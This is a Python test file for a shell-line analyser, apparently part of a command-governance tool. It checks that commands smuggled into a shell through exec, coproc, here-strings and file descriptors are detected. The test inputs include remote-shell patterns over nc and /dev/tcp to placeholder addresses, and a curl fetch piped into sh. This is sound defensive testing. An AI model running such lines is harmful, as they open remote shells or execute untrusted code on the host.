"""Descriptors that `exec` and `coproc` leave open, and what a shell reads from them."""

from __future__ import annotations

import pytest

from governance.shell import read_line


def _run(line: str) -> list[list[str]]:
    """The arguments of each `rm` that the line runs."""
    return [
        [str(word) for word in one.arguments]
        for one in read_line(line).commands
        if one.program == "rm"
    ]


def _blind(line: str) -> bool:
    """Whether a shell of the line runs what is not known."""
    commands = read_line(line).commands
    return any(one.kind == "input" for command in commands for one in command.opaque)


@pytest.mark.parametrize(
    "line",
    [
        "exec <<< 'rm x'; sh",
        "exec <<< 'rm x'; { bash; }",
        "exec <<< 'rm x'; cat | sh",
        "exec <<< 'rm x'; xargs -I{} sh -c {}",
        "exec <<< 'rm x'; read c; $c",
        "exec <<< $'ls\\nrm x'; read c; read c; $c",
        "exec <<< 'rm x'; while read c; do $c; done",
        "exec < <(echo rm x); sh",
        "exec <<E\nrm x\nE\nsh",
        "echo rm x > f; exec < f; sh",
        "f() { exec <<< 'rm x'; }; f; sh",
        "if a; then exec <<< 'rm x'; fi; sh",
        "{ exec <<< 'rm x'; sh; } < /dev/null",
        "exec <<< ls; exec <<< 'rm x'; sh",
        "eval \"exec <<< 'rm x'\"; sh",
    ],
)
def test_what_exec_puts_on_the_input_is_read_by_what_follows(line: str) -> None:
    """The input of the whole shell is that of each of its commands."""
    assert _run(line) == [["x"]]


@pytest.mark.parametrize(
    "line",
    [
        "exec 3< <(echo rm x); sh <&3",
        "exec 3<<< 'rm x'; sh <&3",
        "exec 3<<< 'rm x'; sh < /dev/fd/3",
        "exec 3<<< 'rm x'; sh /dev/fd/3",
        "exec 3<<< 'rm x'; exec <&3; sh",
        "exec 3<<< 'rm x'; exec 4<&3 3<&-; sh <&4",
        "exec {n}<<< 'rm x'; sh <&$n",
        "exec 3<<< 'rm x'; read c <&3; $c",
        "exec 3<<< 'rm x'; { sh; } <&3",
        "sh 3<<< 'rm x' <&3",
        "sh 3< <(echo rm x) <&3",
        "exec 3<<< 'rm x'; exec <<< ls; sh <&3",
        "exec 3< <(echo rm x); . /dev/fd/3",
        "command exec 3<<< 'rm x'; sh <&3",
        "exec -a a 3<<< 'rm x'; sh <&3",
        "exec 3<<< 'rm x'; read -u 3 c; $c",
        "exec 3<<< $'ls\\nrm x'; read -ru3 c; read -u3 c; $c",
        "exec 3<<< $'ls\\nrm x'; read c <&3; read c <&3; $c",
        "exec 3<<< 'rm x'; mapfile -u 3 a; ${a[0]}",
        "while read -u 3 c; do $c; done 3<<< $'ls\\nrm x'",
        "exec 3<<< $'ls\\nrm x'; while read -r c <&3; do $c; done",
        "{ sh <&3; } 3<<< 'rm x'",
        "f() { sh <&3; }; f 3<<< 'rm x'",
        "echo rm x | { sh <&3; } 3<&0",
        "exec 3<<< 'rm x'; { :; } 3< /dev/null; sh <&3",
    ],
)
def test_a_descriptor_that_the_line_opens_is_read(line: str) -> None:
    """What stands behind a number is known where the line says it."""
    assert _run(line) == [["x"]]


@pytest.mark.parametrize(
    "line",
    [
        'coproc N { echo rm x; }; sh <&"${N[0]}"',
        "coproc { echo rm x; }; sh <&${COPROC[0]}",
        "coproc echo rm x; sh <&${COPROC[0]}",
        "coproc echo rm x && sh <&${COPROC[0]}",
        "coproc sh; echo rm x >&${COPROC[1]}",
        "coproc N { sh; }; exec 4>&${N[1]}; echo rm x >&4",
        "coproc sh; echo ls >&${COPROC[1]}; echo rm x >&${COPROC[1]}",
        "exec > >(sh); echo rm x",
        "exec 3> >(sh); echo rm x >&3",
        "exec {n}> >(sh); echo rm x >&$n",
        "exec > f; echo rm x; sh f",
    ],
)
def test_what_is_written_to_a_descriptor_reaches_who_reads_it(line: str) -> None:
    """A coprocess and an output of the whole shell hand on what they are given."""
    assert _run(line) == [["x"]]


@pytest.mark.parametrize(
    "line",
    [
        "sh <&7",
        'sh <&"${N[0]}"',
        "sh <&$fd",
        "exec 3<&7; sh <&3",
        "coproc nc 192.0.2.1 80; sh <&${COPROC[0]} >&${COPROC[1]}",
        "coproc sh; curl https://x.example >&${COPROC[1]}",
        "exec < <(curl https://x.example); sh",
        "exec 3< <(curl https://x.example); sh <&3",
        "exec 3<>/dev/tcp/192.0.2.1/80; sh <&3",
        "if a; then exec <<< ls; else exec <<< pwd; fi; sh",
    ],
)
def test_a_shell_whose_input_nobody_knows_is_opaque(line: str) -> None:
    """A descriptor of which the line does not say what it holds may hold anything."""
    assert _blind(line)


@pytest.mark.parametrize(
    "line",
    [
        "exec <<< 'rm x'; ls | sh",
        "exec <<< 'rm x'; sh < /dev/null",
        "(exec <<< 'rm x'); sh",
        "exec <<< 'rm x' | sh",
        "exec 3<<< 'rm x'; exec 3<&-; sh < other",
        "exec <<< 'rm x'; cat",
        "coproc N { echo rm x; }; cat <&${N[0]}",
        "exec 3>&1; sh build.sh >&3",
        "exec > >(tee log) 2>&1; sh build.sh",
        "exec 3<&0; exec < f; cat; exec <&3; sh",
        "bash <&0",
    ],
)
def test_another_input_is_not_that_of_the_shell(line: str) -> None:
    """A pipe, a file or a subshell goes before, and a program that runs nothing may read all."""
    assert _run(line) == []


@pytest.mark.parametrize(
    "line",
    ["exec 3>log; echo a >&3", "exec > >(tee log)", "coproc bc; read x <&${COPROC[0]}", "bash <&0",
     "exec 3<&0; exec < f; cat; exec <&3; sh", "exec 3<f; while read -u 3 l; do echo $l; done"],
)  # fmt: skip
def test_everyday_descriptors_leave_nothing_unknown(line: str) -> None:
    """Logs, coprocesses that no shell reads, and inputs that are put back hide nothing."""
    assert not _blind(line)


def test_many_descriptors_and_inputs_are_bounded() -> None:
    """Beyond the bound a descriptor is not known, and nothing is lost in silence."""
    opened = "; ".join(f"exec {number}<<< ls" for number in range(3, 90))
    changed = "; ".join("exec <<< ls" for _ in range(90))

    assert _blind(f"{opened}; exec 89<<< 'rm x'; sh <&89")
    assert _run(f"{changed}; exec <<< 'rm x'; sh") == [["x"]]
